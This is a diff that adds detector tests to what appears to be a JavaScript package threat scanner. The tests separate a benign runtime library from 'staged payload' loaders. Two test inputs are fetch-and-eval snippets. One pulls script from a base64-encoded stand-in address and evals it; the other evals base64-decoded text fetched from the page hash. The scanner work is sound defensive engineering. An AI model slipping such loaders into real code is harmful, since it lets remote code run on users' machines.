@@ -104,6 +104,42 @@ TEST_CASE("a module loader evaluating what its caller names is no staged payload
   CHECK(staged.risk >= Risk::high);
 }
 
+TEST_CASE(
+    "a language runtime with an XHR factory, a char builder and eval in separate functions "
+    "is no staged payload",
+    "[engine][threats]") {
+  // A compiled language's runtime library: unrelated primitives side by side, no address, and
+  // the character built from a number is not a decoding of what is fetched.
+  std::string runtime =
+      "function rt_xhr_create(unit) {\n"
+      "  if (typeof globalThis.XMLHttpRequest !== 'undefined')\n"
+      "    try { return new globalThis.XMLHttpRequest(); } catch (e) {}\n"
+      "  rt_fail('no XMLHttpRequest');\n"
+      "}\n"
+      "function rt_fill_bytes(s, l, c) { s.c = rt_repeat(l, String.fromCharCode(c)); return 0; }\n"
+      "function rt_js_expr(s) { return eval(rt_jsstring_of_string(s)); }\n";
+  auto benign = run_one("lib/runtime.bc.js", runtime);
+  CHECK_FALSE(has(benign.threats, "staged-payload"));
+  CHECK(benign.risk < Risk::high);
+
+  SECTION("fetching a decoded address and evaluating the answer stays a staged payload") {
+    auto staged = run_one("lib/index.js",
+                          "const u = atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3MuanM=');\n"
+                          "const x = new XMLHttpRequest();\n"
+                          "x.open('GET', u, false); x.send();\n"
+                          "eval(x.responseText);\n");
+    CHECK(has(staged.threats, "staged-payload"));
+    CHECK(staged.risk >= Risk::high);
+  }
+  SECTION("decoding what was fetched straight into eval stays a staged payload") {
+    auto staged = run_one("lib/index.js",
+                          "fetch(location.hash.slice(1)).then((r) => r.text())\n"
+                          "  .then((t) => eval(atob(t)));\n");
+    CHECK(has(staged.threats, "staged-payload"));
+    CHECK(staged.risk >= Risk::high);
+  }
+}
+
 namespace {
 
 // The shape of a native-binding helper: fetch the binding's tarball from the configured
